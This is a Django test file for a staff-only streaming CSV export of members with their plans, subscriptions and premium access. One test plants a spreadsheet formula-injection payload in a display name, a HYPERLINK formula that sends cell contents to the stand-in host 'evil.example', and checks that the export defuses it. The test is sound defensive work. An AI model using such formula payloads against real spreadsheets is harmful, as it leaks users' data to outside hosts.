"""The members export (/admin/dashboard/members.csv): a row per member with their plan,
subscription and premium access now, streamed, for the dashboard's staff only; cells a
spreadsheet would run are written as text; its queries do not grow with the members."""

from __future__ import annotations

import csv
import datetime as dt
import io
from http import HTTPStatus

import pytest
from django.test import Client
from django.utils import timezone

from billing.models import ComplimentaryAccess, Subscription
from stats.members import HEADER

from ..conftest import new_subscription, signed_in
from ..factories import SubscriptionFactory, UserFactory

pytestmark = pytest.mark.django_db

URL = "/admin/dashboard/members.csv"


def export(client: Client) -> dict[str, dict[str, str]]:
    """The export's rows by email."""
    response = client.get(URL)
    assert response.status_code == HTTPStatus.OK
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="alphacode-members.csv"'
    text = b"".join(response.streaming_content).decode()
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert header == HEADER
    return {row[1]: dict(zip(header, row, strict=True)) for row in rows}


@pytest.fixture
def annual_price(fake_stripe, settings) -> dict:
    price = fake_stripe.add_price(amount=19000, lookup_key="alphacode-annual", interval="year")
    settings.STRIPE_ANNUAL_PRICE_ID = price["id"]
    return price


def test_each_member_with_their_plan_subscription_and_access(
    fake_stripe, post_event, annual_price, staff
) -> None:
    monthly = UserFactory(email="monthly@example.com", name="Ada Lovelace")
    post_event(
        fake_stripe.event("customer.subscription.created", new_subscription(fake_stripe, monthly))
    )
    annual = UserFactory(email="annual@example.com")
    sub = new_subscription(fake_stripe, annual)
    post_event(
        fake_stripe.event(
            "customer.subscription.created", fake_stripe.switch_price(sub["id"], annual_price)
        )
    )
    leaving = UserFactory(email="leaving@example.com")
    sub = new_subscription(fake_stripe, leaving)
    set_to_cancel = fake_stripe.cancel_in_portal(sub["id"], feedback="too_expensive", comment="")
    post_event(fake_stripe.event("customer.subscription.created", set_to_cancel))
    gone = UserFactory(email="gone@example.com")
    sub = new_subscription(fake_stripe, gone)
    ended = fake_stripe.cancel_in_portal(
        sub["id"], feedback="unused", comment=None, at_period_end=False
    )
    post_event(fake_stripe.event("customer.subscription.deleted", ended))
    guest = UserFactory(email="guest@example.com")
    ComplimentaryAccess.objects.create(
        user=guest, expires_at=timezone.now() + dt.timedelta(days=30)
    )
    UserFactory(email="reader@example.com")
    trial_end = timezone.now() + dt.timedelta(days=5)
    SubscriptionFactory(
        user=UserFactory(email="trial@example.com"),
        status="trialing",
        interval="month",
        monthly_amount=1900,
        trial_end=trial_end,
        current_period_end=trial_end,
    )

    rows = export(signed_in(staff))
    assert set(rows) == {
        "monthly@example.com",
        "annual@example.com",
        "leaving@example.com",
        "gone@example.com",
        "guest@example.com",
        "reader@example.com",
        "trial@example.com",
        "ops@example.com",
    }
    ada = rows["monthly@example.com"]
    assert ada["id"] == str(monthly.pk)
    assert ada["display_name"] == "Ada Lovelace"
    assert ada["joined"] == monthly.date_joined.isoformat(timespec="seconds")
    assert ada["last_login"] == ""
    assert (ada["plan"], ada["access_source"], ada["subscription_status"]) == (
        "monthly",
        "subscription",
        "active",
    )
    assert (ada["monthly_usd"], ada["premium_access_now"], ada["cancel_at_period_end"]) == (
        "19.00",
        "yes",
        "no",
    )
    stored = Subscription.objects.get(user=monthly)
    assert ada["period_end"] == stored.current_period_end.isoformat(timespec="seconds")
    assert (rows["annual@example.com"]["plan"], rows["annual@example.com"]["monthly_usd"]) == (
        "annual",
        "15.83",
    )
    leaving_row = rows["leaving@example.com"]
    assert (
        leaving_row["plan"],
        leaving_row["cancel_at_period_end"],
        leaving_row["cancellation_reason"],
        leaving_row["premium_access_now"],
    ) == ("monthly", "yes", "Too expensive", "yes")
    gone_row = rows["gone@example.com"]
    assert (
        gone_row["plan"],
        gone_row["subscription_status"],
        gone_row["monthly_usd"],
        gone_row["cancellation_reason"],
        gone_row["premium_access_now"],
    ) == ("none", "canceled", "", "Not used enough", "no")
    guest_row = rows["guest@example.com"]
    assert (guest_row["plan"], guest_row["access_source"], guest_row["premium_access_now"]) == (
        "complimentary",
        "complimentary",
        "yes",
    )
    reader_row = rows["reader@example.com"]
    assert (
        reader_row["plan"],
        reader_row["subscription_status"],
        reader_row["premium_access_now"],
    ) == (
        "none",
        "",
        "no",
    )
    assert reader_row["cancel_at_period_end"] == ""
    trial_row = rows["trial@example.com"]
    assert trial_row["trial_end"] == trial_end.isoformat(timespec="seconds")
    assert (trial_row["plan"], trial_row["subscription_status"]) == ("monthly", "trialing")
    ops = rows["ops@example.com"]
    assert (ops["plan"], ops["access_source"], ops["premium_access_now"]) == (
        "none",
        "staff",
        "yes",
    )
    assert ops["last_login"] != ""  # signed in to download it


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(staff, start) -> None:
    UserFactory(email="sly@example.com", name=f'{start}HYPERLINK("https://evil.example/?"&A1)')
    row = export(signed_in(staff))["sly@example.com"]
    assert row["display_name"] == f'\'{start}HYPERLINK("https://evil.example/?"&A1)'
    # Numbers the export writes are left as numbers.
    assert row["id"].isdigit()


def test_the_export_is_for_the_dashboards_staff_only(staff, editor, reader, client) -> None:
    # An editor is staff without the dashboard's permission; a member is not staff.
    assert signed_in(editor).get(URL).status_code == HTTPStatus.FORBIDDEN
    response = signed_in(reader).get(URL)
    assert response.status_code == HTTPStatus.FOUND
    assert "/admin/login/" in response["Location"]
    assert client.get(URL).status_code == HTTPStatus.FOUND
    # The owner finds it from the dashboard.
    assert f'href="{URL}"' in signed_in(staff).get("/admin/").content.decode()


def test_the_exports_queries_do_not_grow_with_the_members(
    staff, django_assert_max_num_queries
) -> None:
    owner = signed_in(staff)

    def add_members(count: int) -> None:
        for _ in range(count):
            user = UserFactory()
            SubscriptionFactory(user=user, interval="month", monthly_amount=1900)
            SubscriptionFactory(user=user, status="canceled", cancellation_feedback="other")
            ComplimentaryAccess.objects.create(
                user=user, expires_at=timezone.now() + dt.timedelta(days=1)
            )

    # The signed-in user (sessions are kept in the cache), and one query for every member.
    add_members(3)
    with django_assert_max_num_queries(2):
        assert len(export(owner)) == 4
    add_members(40)
    with django_assert_max_num_queries(2):
        assert len(export(owner)) == 44


@pytest.mark.django_db(transaction=True)
def test_the_export_streams_outside_a_transaction_as_in_production(staff) -> None:
    # Not inside the test's transaction: the rows come through a cursor held across commits.
    for n in range(5):
        SubscriptionFactory(user=UserFactory(email=f"m{n}@example.com"), monthly_amount=1900)
    rows = export(signed_in(staff))
    assert {rows[f"m{n}@example.com"]["monthly_usd"] for n in range(5)} == {"19.00"}
